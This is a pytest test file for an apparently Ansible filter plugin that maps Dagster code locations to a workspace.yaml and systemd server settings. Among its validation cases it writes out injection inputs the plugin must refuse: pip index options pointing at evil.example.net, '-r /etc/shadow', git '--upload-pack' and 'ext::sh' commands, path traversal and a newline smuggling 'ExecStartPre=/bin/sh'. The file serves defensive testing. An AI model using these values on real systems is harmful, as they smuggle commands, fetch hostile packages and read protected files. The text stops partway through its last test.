"""dagster_workspace: code locations -> the workspace.yaml mapping."""

from __future__ import annotations

import copy
import re

import dagster_workspace
import pytest
from dagster_workspace import dagster_workspace as workspace

GRPC = {"name": "etl", "type": "grpc", "host": "code1.example.net", "port": 4000}
MODULE = {"name": "example", "type": "module", "module": "dagster_example"}
FILE = {"name": "scripts", "type": "file", "file": "/opt/code/defs.py"}


def test_filters_are_registered():
    assert dagster_workspace.FilterModule().filters() == {
        "dagster_workspace": workspace,
        "dagster_code_location_addresses": dagster_workspace.dagster_code_location_addresses,
        "dagster_code_location_servers": dagster_workspace.dagster_code_location_servers,
        "dagster_local_locations": dagster_workspace.dagster_local_locations,
        "dagster_celery_workers": dagster_workspace.dagster_celery_workers,
    }


@pytest.mark.parametrize("empty", [None, []])
def test_no_locations_give_an_empty_workspace(empty):
    assert workspace(empty) == {"load_from": []}


def test_each_type_becomes_its_workspace_entry_with_location_name():
    assert workspace([GRPC, MODULE, FILE]) == {
        "load_from": [
            {"grpc_server": {"host": "code1.example.net", "port": 4000, "location_name": "etl"}},
            {"python_module": {"module_name": "dagster_example", "location_name": "example"}},
            {"python_file": {"relative_path": "/opt/code/defs.py", "location_name": "scripts"}},
        ]
    }


PYTHON_EXTRAS = {
    "attribute": "defs",
    "working_directory": "/opt/code",
    "executable_path": "/opt/code/.venv/bin/python",
}


@pytest.mark.parametrize(
    ("location", "key", "target_key", "target"),
    [
        (MODULE, "python_module", "module_name", "dagster_example"),
        (FILE, "python_file", "relative_path", "/opt/code/defs.py"),
    ],
)
def test_python_locations_carry_attribute_working_directory_and_executable(location, key, target_key, target):
    result = workspace([{**location, **PYTHON_EXTRAS}])
    assert result == {"load_from": [{key: {target_key: target, **PYTHON_EXTRAS, "location_name": location["name"]}}]}


def test_grpc_ssl_is_carried_when_true_and_left_out_when_false():
    with_ssl = workspace([{**GRPC, "ssl": True}])["load_from"][0]["grpc_server"]
    without_ssl = workspace([{**GRPC, "ssl": False}])["load_from"][0]["grpc_server"]
    assert with_ssl == {"host": "code1.example.net", "port": 4000, "location_name": "etl", "ssl": True}
    assert without_ssl == {"host": "code1.example.net", "port": 4000, "location_name": "etl"}


def test_order_is_kept_and_input_not_modified():
    locations = [FILE, GRPC, MODULE]
    before = copy.deepcopy(locations)
    result = workspace(locations)
    assert [next(iter(entry)) for entry in result["load_from"]] == ["python_file", "grpc_server", "python_module"]
    assert locations == before


@pytest.mark.parametrize("port", [1, 65535])
def test_port_limits_are_accepted(port):
    assert workspace([{**GRPC, "port": port}])["load_from"][0]["grpc_server"]["port"] == port


@pytest.mark.parametrize(
    "second",
    [
        {**GRPC, "name": "other", "port": 4001},
        {**GRPC, "name": "other", "host": "code2.example.net"},
    ],
    ids=["same-host-other-port", "same-port-other-host"],
)
def test_grpc_locations_may_share_a_host_or_a_port(second):
    assert len(workspace([GRPC, second])["load_from"]) == 2


@pytest.mark.parametrize("name", ["a", "etl_2", "ETL-nightly", "9lives", "x" * 63])
def test_valid_names_are_accepted(name):
    assert workspace([{**MODULE, "name": name}])["load_from"][0]["python_module"]["location_name"] == name


@pytest.mark.parametrize("locations", ["etl", {"name": "etl"}, 3], ids=["string", "map", "int"])
def test_locations_must_be_a_list(filter_error, assert_field, locations):
    assert_field(filter_error(workspace, locations), "dagster_code_locations")


@pytest.mark.parametrize("entry", ["etl", ["etl"], None], ids=["string", "list", "null"])
def test_an_entry_must_be_a_map(filter_error, assert_field, entry):
    message = filter_error(workspace, [MODULE, entry])
    assert_field(message, "dagster_code_locations[1]")
    assert "must be a map" in message


def _without(location, key):
    return {k: v for k, v in location.items() if k != key}


# (the second entry of the list, the field the message must name); the first entry is GRPC.
ERRORS = {
    "name-missing": (_without(MODULE, "name"), "name"),
    "name-space": ({**MODULE, "name": "bad name"}, "name"),
    "name-leading-dash": ({**MODULE, "name": "-etl"}, "name"),
    "name-dot": ({**MODULE, "name": "etl.prod"}, "name"),
    "name-too-long": ({**MODULE, "name": "x" * 64}, "name"),
    "name-empty": ({**MODULE, "name": ""}, "name"),
    "name-int": ({**MODULE, "name": 5}, "name"),
    "name-trailing-newline": ({**MODULE, "name": "etl2\n"}, "name"),
    "type-unknown": ({**MODULE, "type": "docker"}, "type"),
    "type-missing": (_without(MODULE, "type"), "type"),
    "grpc-host-missing": (_without({**GRPC, "name": "g2", "port": 4001}, "host"), "host"),
    "grpc-host-empty": ({**GRPC, "name": "g2", "host": " "}, "host"),
    "grpc-port-missing": (_without({**GRPC, "name": "g2"}, "port"), "port"),
    "grpc-port-zero": ({**GRPC, "name": "g2", "port": 0}, "port"),
    "grpc-port-too-high": ({**GRPC, "name": "g2", "port": 65536}, "port"),
    "grpc-port-bool": ({**GRPC, "name": "g2", "port": True}, "port"),
    "grpc-port-string": ({**GRPC, "name": "g2", "port": "4001"}, "port"),
    "grpc-port-float": ({**GRPC, "name": "g2", "port": 4001.0}, "port"),
    "grpc-ssl-string": ({**GRPC, "name": "g2", "port": 4001, "ssl": "yes"}, "ssl"),
    "grpc-python-key": ({**GRPC, "name": "g2", "port": 4001, "attribute": "defs"}, "attribute"),
    "module-missing": (_without(MODULE, "module"), "module"),
    "module-empty": ({**MODULE, "module": ""}, "module"),
    "module-not-string": ({**MODULE, "module": ["a"]}, "module"),
    "file-missing": (_without(FILE, "file"), "file"),
    "module-and-file": ({**MODULE, "file": "/opt/code/defs.py"}, "module"),
    "file-relative": ({**FILE, "file": "code/defs.py"}, "file"),
    "working-directory-relative": ({**MODULE, "working_directory": "code"}, "working_directory"),
    "executable-path-relative": ({**FILE, "executable_path": "bin/python"}, "executable_path"),
    "attribute-empty": ({**MODULE, "attribute": ""}, "attribute"),
    "attribute-not-string": ({**MODULE, "attribute": 3}, "attribute"),
    "unknown-key": ({**MODULE, "package": "x"}, "package"),
    "unknown-key-on-file": ({**FILE, "host": "localhost"}, "host"),
    "duplicate-name": ({**MODULE, "name": "etl"}, "name"),
    "duplicate-grpc-endpoint": ({**GRPC, "name": "etl-copy"}, "port"),
}


@pytest.mark.parametrize(("entry", "field"), list(ERRORS.values()), ids=list(ERRORS))
def test_bad_entry_is_rejected_naming_its_index_and_field(filter_error, entry, field):
    message = filter_error(workspace, [GRPC, entry])
    # dagster_code_locations[1].field: ... or dagster_code_locations[1] ('name').field: ...
    pattern = re.escape("dagster_code_locations[1]") + r"( \('[^']*'\))?\." + re.escape(field) + ": "
    assert re.match(pattern, message), message


def test_duplicate_messages_point_at_the_first_entry(filter_error):
    assert "dagster_code_locations[0]" in filter_error(workspace, [GRPC, {**MODULE, "name": "etl"}])
    assert "dagster_code_locations[0]" in filter_error(workspace, [GRPC, {**GRPC, "name": "etl-copy"}])


# --- locations deployed by the dagster_code_location role -------------------------------------

from dagster_workspace import dagster_code_location_addresses as addresses_of  # noqa: E402
from dagster_workspace import dagster_code_location_servers as servers  # noqa: E402

from locations import ADDRESSES, DEPLOYED  # noqa: E402


def test_a_deployed_location_takes_its_host_from_the_address_map():
    result = workspace([DEPLOYED, {**GRPC, "name": "vendor"}, MODULE], addresses=ADDRESSES)
    assert result["load_from"] == [
        {"grpc_server": {"host": "10.0.0.12", "port": 4000, "location_name": "etl"}},
        {"grpc_server": {"host": "code1.example.net", "port": 4000, "location_name": "vendor"}},
        {"python_module": {"module_name": "dagster_example", "location_name": "example"}},
    ]


def test_deployment_keys_stay_out_of_the_workspace():
    full = {
        **DEPLOYED,
        "bind": "0.0.0.0",
        "attribute": "defs",
        "working_directory": "/srv/etl",
        "packages": ["pandas==2.2.3"],
        "environment": {"API_TOKEN": "x", "RETRIES": 3},
        "environment_files": ["/etc/etl/secrets.env"],
        "read_write_paths": ["/srv/etl/cache"],
        "memory_deny_write_execute": False,
    }
    assert workspace([full], addresses=ADDRESSES) == {
        "load_from": [{"grpc_server": {"host": "10.0.0.12", "port": 4000, "location_name": "etl"}}]
    }


@pytest.mark.parametrize(
    "source",
    [{"directory": "/src/etl"}, {"git": "https://git.example.net/etl.git"}, {"pip": "etl==1.2.0"}],
    ids=["directory", "git-without-version", "pip"],
)
def test_each_source_kind_is_accepted(source):
    assert workspace([{**DEPLOYED, "source": source}], addresses=ADDRESSES)["load_from"][0]["grpc_server"]["port"] == 4000


def test_a_relative_file_is_accepted_with_a_directory_or_git_source():
    location = {**_without(DEPLOYED, "module"), "file": "defs.py"}
    assert workspace([location], addresses=ADDRESSES)
    assert workspace([{**location, "source": {"directory": "/src"}}], addresses=ADDRESSES)


def test_locations_on_other_hosts_or_ports_coexist():
    others = [
        DEPLOYED,
        {**DEPLOYED, "name": "etl2", "port": 4001},
        {**DEPLOYED, "name": "etl3", "deploy_to": "code2"},
        {**GRPC, "name": "vendor", "host": "10.0.0.12", "port": 4002},
    ]
    assert len(workspace(others, addresses=ADDRESSES)["load_from"]) == 4


# (the entry, the field the message must name); the first entry of the list is DEPLOYED.
DEPLOYED_ERRORS = {
    "deploy-to-unknown-host": ({**DEPLOYED, "name": "b", "deploy_to": "code9"}, "deploy_to"),
    "deploy-to-empty": ({**DEPLOYED, "name": "b", "deploy_to": ""}, "deploy_to"),
    "deploy-to-not-string": ({**DEPLOYED, "name": "b", "deploy_to": ["code1"]}, "deploy_to"),
    "host-and-deploy-to": ({**DEPLOYED, "name": "b", "port": 4001, "host": "10.0.0.12"}, "host"),
    "ssl-on-deployed": ({**DEPLOYED, "name": "b", "port": 4001, "ssl": True}, "ssl"),
    "no-module-or-file": (_without({**DEPLOYED, "name": "b", "port": 4001}, "module"), "module"),
    "module-and-file": ({**DEPLOYED, "name": "b", "port": 4001, "file": "/x.py"}, "module"),
    "module-with-space": ({**DEPLOYED, "name": "b", "port": 4001, "module": "etl defs"}, "module"),
    "relative-file-without-checkout": (
        {**_without({**DEPLOYED, "name": "b", "port": 4001, "source": {"pip": "etl"}}, "module"), "file": "defs.py"},
        "file",
    ),
    "attribute-with-percent": ({**DEPLOYED, "name": "b", "port": 4001, "attribute": "de%fs"}, "attribute"),
    "working-directory-relative": ({**DEPLOYED, "name": "b", "port": 4001, "working_directory": "srv"}, "working_directory"),
    "bind-empty": ({**DEPLOYED, "name": "b", "port": 4001, "bind": ""}, "bind"),
    "bind-with-space": ({**DEPLOYED, "name": "b", "port": 4001, "bind": "0.0.0.0 -x"}, "bind"),
    "source-not-map": ({**DEPLOYED, "name": "b", "port": 4001, "source": "/src"}, "source"),
    "source-empty": ({**DEPLOYED, "name": "b", "port": 4001, "source": {}}, "source"),
    "source-two-kinds": ({**DEPLOYED, "name": "b", "port": 4001, "source": {"pip": "a", "directory": "/b"}}, "source"),
    "source-unknown-key": ({**DEPLOYED, "name": "b", "port": 4001, "source": {"pip": "a", "version": "1"}}, "source.version"),
    "source-empty-value": ({**DEPLOYED, "name": "b", "port": 4001, "source": {"git": ""}}, "source.git"),
    "packages-not-list": ({**DEPLOYED, "name": "b", "port": 4001, "packages": "pandas"}, "packages"),
    "packages-empty-item": ({**DEPLOYED, "name": "b", "port": 4001, "packages": ["pandas", ""]}, "packages[1]"),
    "requirements-lock-empty": ({**DEPLOYED, "name": "b", "port": 4001, "requirements_lock": ""}, "requirements_lock"),
    "requirements-lock-not-string": ({**DEPLOYED, "name": "b", "port": 4001, "requirements_lock": ["a.txt"]}, "requirements_lock"),
    "requirements-lock-newline": ({**DEPLOYED, "name": "b", "port": 4001, "requirements_lock": "a\n.txt"}, "requirements_lock"),
    "environment-not-map": ({**DEPLOYED, "name": "b", "port": 4001, "environment": ["A=1"]}, "environment"),
    "environment-bad-name": ({**DEPLOYED, "name": "b", "port": 4001, "environment": {"1A": "x"}}, "environment"),
    "environment-nested-value": ({**DEPLOYED, "name": "b", "port": 4001, "environment": {"A": {"b": 1}}}, "environment.A"),
    "environment-files-relative": (
        {**DEPLOYED, "name": "b", "port": 4001, "environment_files": ["/etc/a.env", "b.env"]},
        "environment_files[1]",
    ),
    "read-write-paths-space": (
        {**DEPLOYED, "name": "b", "port": 4001, "read_write_paths": ["/srv/my cache"]},
        "read_write_paths[0]",
    ),
    "read-write-paths-not-list": ({**DEPLOYED, "name": "b", "port": 4001, "read_write_paths": "/srv"}, "read_write_paths"),
    "mdwe-not-bool": ({**DEPLOYED, "name": "b", "port": 4001, "memory_deny_write_execute": "no"}, "memory_deny_write_execute"),
    "memory-max-unitless-suffix": ({**DEPLOYED, "name": "b", "port": 4001, "memory_max": "2GB"}, "memory_max"),
    "memory-max-number": ({**DEPLOYED, "name": "b", "port": 4001, "memory_max": 2048}, "memory_max"),
    "memory-max-over-100-percent": ({**DEPLOYED, "name": "b", "port": 4001, "memory_max": "120%"}, "memory_max"),
    "memory-max-line-break": (
        {**DEPLOYED, "name": "b", "port": 4001, "memory_max": "1G\nExecStartPre=/bin/sh"}, "memory_max"),
    "tasks-max-too-low": ({**DEPLOYED, "name": "b", "port": 4001, "tasks_max": 10}, "tasks_max"),
    "tasks-max-string": ({**DEPLOYED, "name": "b", "port": 4001, "tasks_max": "512"}, "tasks_max"),
    "tasks-max-bool": ({**DEPLOYED, "name": "b", "port": 4001, "tasks_max": True}, "tasks_max"),
    "limit-on-a-module-location": ({**MODULE, "name": "b", "memory_max": "1G"}, "memory_max"),
    "unknown-key": ({**DEPLOYED, "name": "b", "port": 4001, "restart": "always"}, "restart"),
    "port-missing": (_without({**DEPLOYED, "name": "b"}, "port"), "port"),
    "same-host-same-port": ({**DEPLOYED, "name": "b", "module": "other"}, "port"),
    "external-on-a-deployed-endpoint": ({**GRPC, "name": "b", "host": "10.0.0.12"}, "port"),
    "duplicate-name-across-hosts": ({**DEPLOYED, "deploy_to": "code2"}, "name"),
    "deployment-key-without-deploy-to": ({**GRPC, "name": "b", "source": {"pip": "etl"}}, "source"),
    "grpc-without-host-or-deploy-to": (_without({**GRPC, "name": "b"}, "host"), "host"),
    "name-not-a-unit-name": ({**DEPLOYED, "name": "etl@prod", "port": 4001}, "name"),
}


@pytest.mark.parametrize(("entry", "field"), list(DEPLOYED_ERRORS.values()), ids=list(DEPLOYED_ERRORS))
def test_bad_deployed_entry_is_rejected_naming_its_index_and_field(filter_error, entry, field):
    message = filter_error(workspace, [DEPLOYED, entry], addresses=ADDRESSES)
    pattern = re.escape("dagster_code_locations[1]") + r"( \('[^']*'\))?\." + re.escape(field) + ": "
    assert re.match(pattern, message), message


def test_a_deploy_to_host_outside_the_group_lists_the_group(filter_error):
    message = filter_error(workspace, [{**DEPLOYED, "deploy_to": "db1"}], addresses=ADDRESSES)
    assert "'db1' is not a host of the dagster_code_locations inventory group (its hosts: code1, code2)" in message


def test_a_deployed_location_without_any_address_map_is_an_error(filter_error, assert_field):
    assert "deploy_to" in filter_error(workspace, [DEPLOYED])


def test_the_endpoint_message_names_host_and_address(filter_error):
    message = filter_error(workspace, [DEPLOYED, {**DEPLOYED, "name": "b"}], addresses=ADDRESSES)
    assert "code1 (10.0.0.12):4000 is already used by dagster_code_locations[0]" in message


def test_addresses_must_be_a_map(filter_error, assert_field):
    assert_field(filter_error(workspace, [MODULE], addresses=["code1"]), "addresses")


# --- dagster_code_location_addresses ----------------------------------------------------------


def test_addresses_prefer_the_hosts_own_setting_then_ansible_host_then_the_name():
    hostvars = {
        "code1": {"dagster_code_location_address": "10.0.0.12", "ansible_host": "203.0.113.5"},
        "code2": {"ansible_host": "203.0.113.6", "dagster_code_location_address": ""},
        "code3": {},
        "db1": {"ansible_host": "203.0.113.9"},
    }
    assert addresses_of(hostvars, ["code1", "code2", "code3"]) == {
        "code1": "10.0.0.12",
        "code2": "203.0.113.6",
        "code3": "code3",
    }


def test_addresses_of_no_hosts_is_empty():
    assert addresses_of({"a": {}}) == {}


def test_an_address_systemd_would_split_is_an_error(filter_error, assert_field):
    message = filter_error(addresses_of, {"code1": {"dagster_code_location_address": "10.0.0.1 -x"}}, ["code1"])
    assert_field(message, "dagster_code_location_address of code1")


def test_addresses_hosts_must_be_a_list(filter_error, assert_field):
    assert_field(filter_error(addresses_of, {}, "code1"), "hosts")


# --- dagster_code_location_servers ------------------------------------------------------------


def test_servers_are_those_of_the_host_with_paths_and_command_line():
    locations = [
        DEPLOYED,
        {**DEPLOYED, "name": "other", "deploy_to": "code2"},
        {**_without(DEPLOYED, "module"), "name": "jit", "port": 4001, "file": "defs.py", "attribute": "defs",
         "source": {"directory": "/src/jit"}, "memory_deny_write_execute": False, "environment": {"A": "1"}},
        MODULE,
    ]
    result = servers(locations, "code1", ADDRESSES, root="/opt/dagster/code-locations")
    assert [server["name"] for server in result] == ["etl", "jit"]
    etl, jit = result
    assert etl == {
        "name": "etl",
        "unit": "dagster-code-location@etl.service",
        "port": 4000,
        "bind": "10.0.0.12",
        "probe_host": "10.0.0.12",
        "address": "10.0.0.12",
        "dir": "/opt/dagster/code-locations/etl",
        "venv": "/opt/dagster/code-locations/etl/venv",
        "checkout": "/opt/dagster/code-locations/etl/src",
        "source": {"kind": "git", "git": "https://git.example.net/etl.git", "version": "v1.4.0"},
        "source_kind": "git",
        "working_directory": "/opt/dagster/code-locations/etl/src",
        "target": ["--module-name", "etl.definitions"],
        "packages": [],
        "requirements_lock": "",
        "environment": {},
        "environment_files": [],
        "read_write_paths": [],
        "memory_deny_write_execute": True,
        "memory_max": None,
        "tasks_max": None,
        "image": "",
        "image_build": None,
        "executor": "",
        "celery_queues": [],
        "bundle": "default",
        "kind": "server",
    }
    assert jit["target"] == ["--python-file", "/opt/dagster/code-locations/jit/src/defs.py", "--attribute", "defs"]
    assert jit["memory_deny_write_execute"] is False and jit["environment"] == {"A": "1"}
    assert jit["source"] == {"kind": "directory", "directory": "/src/jit"}


def test_a_location_carries_its_own_limits_to_its_server():
    limited = {**DEPLOYED, "memory_max": "768M", "tasks_max": 256}
    assert workspace([limited], addresses=ADDRESSES)["load_from"] == [
        {"grpc_server": {"host": "10.0.0.12", "port": 4000, "location_name": "etl"}}]
    (server,) = servers([limited], "code1", ADDRESSES)
    assert (server["memory_max"], server["tasks_max"]) == ("768M", 256)
    for memory_max in ("2G", "25%", "infinity"):
        (server,) = servers([{**DEPLOYED, "memory_max": memory_max}], "code1", ADDRESSES)
        assert (server["memory_max"], server["tasks_max"]) == (memory_max, None)


@pytest.mark.parametrize(
    ("address", "bind", "probe"),
    [
        ("10.0.0.12", "10.0.0.12", "10.0.0.12"),
        ("fd00::12", "fd00::12", "fd00::12"),
        ("localhost", "127.0.0.1", "127.0.0.1"),
    ],
)
def test_a_server_binds_the_address_the_instance_uses_when_it_is_an_ip(address, bind, probe):
    (server,) = servers([DEPLOYED], "code1", {"code1": address})
    assert (server["bind"], server["probe_host"]) == (bind, probe)


def test_a_name_binds_the_host_address_it_resolves_to_never_every_address():
    (server,) = servers([DEPLOYED], "code1", {"code1": "code1.example.net"}, resolved=["10.0.0.12", "fd00::12"])
    assert (server["bind"], server["probe_host"]) == ("10.0.0.12", "10.0.0.12")


@pytest.mark.parametrize("resolved", [None, [], ["not-an-address"]])
def test_a_name_resolving_to_none_of_the_host_addresses_is_refused(filter_error, resolved):
    message = filter_error(servers, [DEPLOYED], "code1", {"code1": "code1.example.net"}, resolved=resolved)
    assert message.startswith("dagster_code_location_address of code1: 'code1.example.net' resolves")


def test_getent_lines_give_the_first_of_the_host_own_addresses():
    lines = ["172.17.0.9 STREAM code1.example.net", "10.0.0.12 STREAM", "10.0.0.12 DGRAM"]
    (server,) = servers([DEPLOYED], "code1", {"code1": "code1.example.net"}, resolved=lines,
                        host_addresses=["127.0.0.1", "10.0.0.12"])
    assert server["bind"] == "10.0.0.12"


def test_a_name_with_an_explicit_bind_needs_no_resolution():
    (server,) = servers([{**DEPLOYED, "bind": "10.0.0.12"}], "code1", {"code1": "code1.example.net"})
    assert server["bind"] == "10.0.0.12"


def test_an_explicit_bind_wins_and_a_wildcard_is_probed_on_loopback():
    (server,) = servers([{**DEPLOYED, "bind": "::"}], "code1", ADDRESSES)
    assert (server["bind"], server["probe_host"]) == ("::", "::1")


def test_a_pip_source_has_no_checkout_and_runs_in_its_directory():
    (server,) = servers([{**DEPLOYED, "source": {"pip": "etl==1.2"}}], "code1", ADDRESSES)
    assert server["checkout"] is None and server["working_directory"] == "/opt/dagster/code-locations/etl"
    assert server["source"] == {"kind": "pip", "pip": "etl==1.2"} and server["source_kind"] == "pip"


def test_servers_validate_the_whole_list_not_only_the_hosts(filter_error):
    bad = {**DEPLOYED, "name": "b", "deploy_to": "code2", "port": 0}
    message = filter_error(servers, [DEPLOYED, bad], "code1", ADDRESSES)
    assert message.startswith("dagster_code_locations[1] ('b').port:"), message


def test_a_host_with_no_locations_gets_none():
    assert servers([DEPLOYED, MODULE], "code2", ADDRESSES) == []


@pytest.mark.parametrize("root", ["opt/x", "/opt/my dir", 3])
def test_the_root_must_be_an_absolute_path(filter_error, assert_field, root):
    assert_field(filter_error(servers, [DEPLOYED], "code1", ADDRESSES, root=root), "dagster_code_location_root")


# Requirement, option and path injection, and reserved variables, in a deployed location.
INJECTIONS = {
    "newline-in-packages": ({"packages": ["pandas", "etl\n--index-url https://evil.example.net"]}, "packages[1]"),
    "option-in-packages": ({"packages": ["--extra-index-url=https://evil.example.net"]}, "packages[0]"),
    "editable-in-packages": ({"packages": ["-e /srv"]}, "packages[0]"),
    "newline-in-pip-source": ({"source": {"pip": "etl==1.0\n-r /etc/shadow"}}, "source.pip"),
    "option-as-pip-source": ({"source": {"pip": "--index-url=https://evil.example.net"}}, "source.pip"),
    "git-source-option": ({"source": {"git": "--upload-pack=touch /tmp/x"}}, "source.git"),
    "git-ext-transport": ({"source": {"git": "ext::sh -c touch% /tmp/x"}}, "source.git"),
    "git-version-option": ({"source": {"git": "https://git.example.net/etl.git", "version": "--orphan"}},
                           "source.version"),
    "git-version-range": ({"source": {"git": "https://git.example.net/etl.git", "version": "main..dev"}},
                          "source.version"),
    "file-leaves-checkout": ({"module": None, "file": "../../../etc/x.py",
                              "source": {"directory": "/src/etl"}}, "file"),
    "absolute-file-with-dot-dot": ({"module": None, "file": "/opt/code/../../etc/x.py"}, "file"),
    "working-directory-dot-dot": ({"working_directory": "/srv/etl/../../etc"}, "working_directory"),
    "read-write-path-dot-dot": ({"read_write_paths": ["/srv/etl/../../etc"]}, "read_write_paths[0]"),
    "reserved-password-variable": ({"environment": {"DAGSTER_PG_PASSWORD": "x"}}, "environment.DAGSTER_PG_PASSWORD"),
    "reserved-image-variable": ({"environment": {"DAGSTER_CURRENT_IMAGE": "x"}}, "environment.DAGSTER_CURRENT_IMAGE"),
}


@pytest.mark.parametrize(("changes", "field"), INJECTIONS.values(), ids=INJECTIONS.keys())
def test_injections_in_a_deployed_location_are_refused(filter_error, assert_field, changes, field):
    location = {key: value for key, value in {**DEPLOYED, **changes}.items() if value is not None}
    assert_field(filter_error(workspace, [location], addresses=ADDRESSES), f"dagster_code_locations[0] ('etl').{field}")


@pytest.mark.parametrize(
    "source",
    [{"git": "git@git.example.net:data/etl.git", "version": "0123abc"}, {"git": "ssh://git.example.net/etl.git"},
     {"git": "file:///srv/git/etl", "version": "refs/tags/v1.0"}, {"git": "/srv/git/etl"},
     {"pip": "etl[extra]>=1.0 ; python_version >= '3.11'"}],
)
def test_usual_sources_pass(source):
    assert workspace([{**DEPLOYED, "source": source}], addresses=ADDRESSES)


def test_a_file_location_with_dot_dot_is_refused(filter_error, assert_field):
    assert_field(filter_error(workspace, [{**FILE, "file": "/opt/code/../x.py"}]), "dagster_code_locations[0] ('scripts').file")


@pytest.mark.parametrize(
    "host", ["code1", "CODE1", "10.0.0.12", "code1."],
)
def test_one_endpoint_through_host_and_deploy_to_is_refused(filter_error, assert_field, host):
    locations = [{**GRPC, "name": "vendor", "host": host, "port": 4000}, DEPLOYED]
    message = filter_error(workspace, locations, addresses=ADDRESSES)
    assert_field(message, "dagster_code_locations[1] ('etl').port")


@pytest.mark.parametrize("spelling", ["LOCALHOST", "127.0.0.1", "localhost."])
def test_one_endpoint_spelled_two_ways_is_refused(filter_error, assert_field, spelling):
    locations = [{**GRPC, "name": "a", "host": "localhost"}, {**GRPC, "name": "b", "host": spelling}]
    assert_field(filter_error(workspace, locations), "dagster_code_locations[1] ('b').port")


# ---------------------------------------------------------------- the locations whose runs execute on the instance's host


def test_local_locations_are_module_file_and_package_ones_and_code_servers_on_loopback():
    entries = workspace(
        [
            {"name": "module_here", "type": "module", "module": "example"},
            {"name": "file_here", "type": "file", "file": "/srv/f.py"},
            {"name": "served_here", "type": "grpc", "host": "127.0.0.1", "port": 4000},
            {"name": "served_here_too", "type": "grpc", "host": "localhost", "port": 4001},
            {"name": "elsewhere", "type": "grpc", "host": "code-host.internal", "port": 4000},
        ]
    )
    assert dagster_workspace.dagster_local_locations(entries) == ["module_here", "file_here", "served_here", "served_here_too"]
    assert dagster_workspace.dagster_local_locations({"load_from": []}) == []


def test_code_servers_deployed_to_the_instances_host_are_local_at_its_address():
    addresses = {"instance-host": "instance-host.internal", "code-host": "code-host.internal"}
    entries = workspace(
        [
            {"name": "deployed_here", "type": "grpc", "port": 4000, "deploy_to": "instance-host", "module": "m"},
            {"name": "deployed_there", "type": "grpc", "port": 4000, "deploy_to": "code-host", "module": "m"},
        ],
        addresses,
    )
    assert dagster_workspace.dagster_local_locations(entries, here=[addresses["instance-host"]]) == ["deployed_here"]
    assert dagster_workspace.dagster_local_locations(entries) == []


@pytest.mark.parametrize("here", ["instance-host", [4000]])
def test_local_locations_take_a_list_of_addresses(here):
    with pytest.raises(Exception, match="here must be a list"):
        dagster_workspace.dagster_local_locations({"load_from": []}, here=here)


def test_local_locations_need_a_workspace():
    with pytest.raises(Exception, match="dagster_local_locations"):
        dagster_workspace.dagster_local_locations([])


# ---------------------------------------------------------------- executor: celery on a deployed location

from dagster_workspace import dagster_celery_workers as celery_workers  # noqa: E402

CELERY = {**DEPLOYED, "executor": "celery"}


def test_a_celery_location_keeps_its_executor_out_of_the_workspace():
    located = {**CELERY, "celery_queues": ["fast", "slow"]}
    assert workspace([located], addresses=ADDRESSES) == {
        "load_from": [{"grpc_server": {"host": "10.0.0.12", "port": 4000, "location_name": "etl"}}]
    }


def test_a_celery_location_server_carries_its_executor_queues_and_bundle():
    (server,) = servers([{**CELERY, "celery_queues": ["fast", "slow"]}], "code1", ADDRESSES)
    assert (server["executor"], server["celery_queues"], server["bundle"], server["kind"]) == (
        "celery", ["fast", "slow"], "celery", "server")


def test_a_celery_location_without_queues_sends_to_dagster_celerys_default_queue():
    (server,) = servers([CELERY], "code1", ADDRESSES)
    assert server["celery_queues"] == ["dagster"]


@pytest.mark.parametrize(
    "queues",
    [["a"], ["fast", "slow", "gpu", "io"], ["fast.lane", "slow_lane", "9-x"], ["x" * 63]],
    ids=["one", "four", "punctuation", "longest"],
)
def test_valid_celery_queues_are_accepted(queues):
    (server,) = servers([{**CELERY, "celery_queues": queues}], "code1", ADDRESSES)
    assert server["celery_queues"] == queues


# (changes to DEPLOYED, the field the message must name).
EXECUTOR_ERRORS = {
    "executor-unknown": ({"executor": "dask"}, "executor"),
    "executor-capitalised": ({"executor": "Celery"}, "executor"),
    "executor-empty": ({"executor": ""}, "executor"),
    "executor-null": ({"executor": None}, "executor"),
    "executor-bool": ({"executor": True}, "executor"),
    "queues-without-executor": ({"celery_queues": ["fast"]}, "celery_queues"),
    "queues-empty": ({"executor": "celery", "celery_queues": []}, "celery_queues"),
    "queues-string": ({"executor": "celery", "celery_queues": "fast"}, "celery_queues"),
    "queues-null": ({"executor": "celery", "celery_queues": None}, "celery_queues"),
    "queues-five": ({"executor": "celery", "celery_queues": ["a", "b", "c", "d", "e"]}, "celery_queues"),
    "queue-with-space": ({"executor": "celery", "celery_queues": ["fast lane"]}, "celery_queues"),
    "queue-leading-dash": ({"executor": "celery", "celery_queues": ["-fast"]}, "celery_queues"),
    "queue-with-slash": ({"executor": "celery", "celery_queues": ["a/b"]}, "celery_queues"),
    "queue-empty": ({"executor": "celery", "celery_queues": [""]}, "celery_queues"),
    "queue-not-string": ({"executor": "celery", "celery_queues": [3]}, "celery_queues"),
    "queue-too-long": ({"executor": "celery", "celery_queues": ["x" * 64]}, "celery_queues"),
    "queue-twice": ({"executor": "celery", "celery_queues": ["fast", "slow", "fast"]}, "celery_queues"),
    "celery-with-image": ({"executor": "celery", "image": "registry.example.net/etl:1.4"}, "executor"),
    "celery-with-image-build": (
        {"executor": "celery", "image_build": {"name": "etl", "base": "python:3.12-slim"}}, "executor"),
    "reserved-broker-url": ({"environment": {"CELERY_BROKER_URL": "redis://x"}}, "environment.CELERY_BROKER_URL"),
    "reserved-result-backend": (
        {"environment": {"CELERY_RESULT_BACKEND": "redis://x"}}, "environment.CELERY_RESULT_BACKEND"),
}


@pytest.mark.parametrize(("changes", "field"), EXECUTOR_ERRORS.values(), ids=EXECUTOR_ERRORS.keys())
def test_bad_executor_settings_are_refused_naming_the_field(filter_error, assert_field, changes, field):
    message = filter_error(workspace, [{**DEPLOYED, **changes}], addresses=ADDRESSES)
    assert_field(message, f"dagster_code_locations[0] ('etl').{field}")


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"celery_queues": ["fast"]}, "needs executor: celery"),
        ({"executor": "celery", "celery_queues": ["a", "b", "c", "d", "e"]}, "at most 4 queues"),
        ({"executor": "celery", "celery_queues": ["fast", "fast"]}, "names a queue twice"),
        ({"executor": "celery", "celery_queues": ["a/b"]}, "'a/b' is not a queue name"),
        ({"executor": "celery", "image": "registry.example.net/etl:1.4"}, "leave out image and image_build"),
    ],
)
def test_executor_messages_say_what_to_do(filter_error, changes, words):
    assert words in filter_error(workspace, [{**DEPLOYED, **changes}], addresses=ADDRESSES)


@pytest.mark.parametrize("key", ["executor", "celery_queues"])
def test_executor_keys_on_a_module_location_are_refused(filter_error, assert_field, key):
    value = "celery" if key == "executor" else ["fast"]
